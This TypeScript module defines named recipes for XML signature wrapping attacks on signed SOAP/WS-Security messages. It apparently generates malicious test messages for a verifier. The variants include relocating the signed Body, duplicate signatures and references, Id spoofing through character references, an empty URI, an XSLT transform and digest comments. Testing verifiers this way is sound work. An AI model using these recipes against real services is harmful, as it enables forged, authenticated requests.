import { edit, inHeader, type Pieces, part } from '../pieces.ts'
import { attack, evilOf, type MessageRecipe } from './recipe.ts'

/** The evil Body in the place of the signed one, which moves into a header. */
const swapped = (pieces: Pieces, evil: string): string =>
  edit(edit(pieces.signed, pieces.body, evil), '</soap:Header>', inHeader(pieces.body))

/** For a Signature outside Security: its KeyInfo names the prefix. */
const withWsse = ({ security, signature }: Pieces): string => {
  const declaration = /xmlns:wsse="[^"]+"/.exec(security)?.[0] ?? ''
  return edit(signature, '<ds:Signature ', `<ds:Signature ${declaration} `)
}

/** A good signature over a good Body, and around it a message that says something else (McIntosh and Austel, 2005). */
export const wrappingRecipes = {
  unsigned: attack(({ signed, security }) => edit(signed, security, '')),
  'signature-removed': attack(({ signed, signature }) => edit(signed, signature, '')),
  'two-signatures': attack(({ signed, signature }) =>
    edit(signed, signature, signature + signature),
  ),
  'two-security-headers': attack(({ signed, security, signature }) =>
    edit(signed, security, edit(security, signature, '') + security),
  ),
  'security-for-another': attack(({ signed }) =>
    edit(signed, '<wsse:Security ', '<wsse:Security soap:actor="urn:other" '),
  ),
  'body-in-header': attack((pieces) => swapped(pieces, evilOf(pieces))),
  'body-shares-id': attack((pieces) => swapped(pieces, evilOf(pieces, pieces.bodyId))),
  'id-by-reference': attack((pieces) =>
    swapped(pieces, evilOf(pieces, pieces.bodyId.replace('i', '&#105;'))),
  ),
  'evil-before': attack((pieces) => edit(pieces.signed, pieces.body, evilOf(pieces) + pieces.body)),
  'evil-after': attack((pieces) => edit(pieces.signed, pieces.body, pieces.body + evilOf(pieces))),
  'evil-around': attack((pieces) => {
    const evil = edit(evilOf(pieces), '<data ', `${pieces.body}<data `)
    return edit(pieces.signed, pieces.body, evil)
  }),
  'body-in-object': attack((pieces) =>
    edit(
      edit(pieces.signed, pieces.body, evilOf(pieces)),
      '</ds:Signature>',
      `<ds:Object>${pieces.body}</ds:Object></ds:Signature>`,
    ),
  ),
  'signature-in-body': attack((pieces) => {
    const evil = edit(evilOf(pieces), '<request>', `${withWsse(pieces)}<request>`)
    return edit(edit(pieces.signed, pieces.signature, ''), pieces.body, evil)
  }),
  'two-elements': attack(({ signed }) => edit(signed, '</soap:Body>', '<evil/></soap:Body>')),
  'uri-empty': attack(({ signed, bodyId }) => edit(signed, `URI="#${bodyId}"`, 'URI=""')),
  'two-references': attack(({ signed }) => {
    const reference = part(signed, '<ds:Reference ', '</ds:Reference>')
    return edit(signed, reference, reference + reference)
  }),
  stylesheet: attack(({ signed }) =>
    signed.replace(
      /(<ds:Transform Algorithm=)"[^"]+"/,
      '$1"http://www.w3.org/TR/1999/REC-xslt-19991116"',
    ),
  ),
  'comment-in-digest': attack(({ signed }) =>
    edit(signed, '<ds:DigestValue>', '<ds:DigestValue><!--AAAA-->'),
  ),
} as const satisfies Record<string, MessageRecipe>
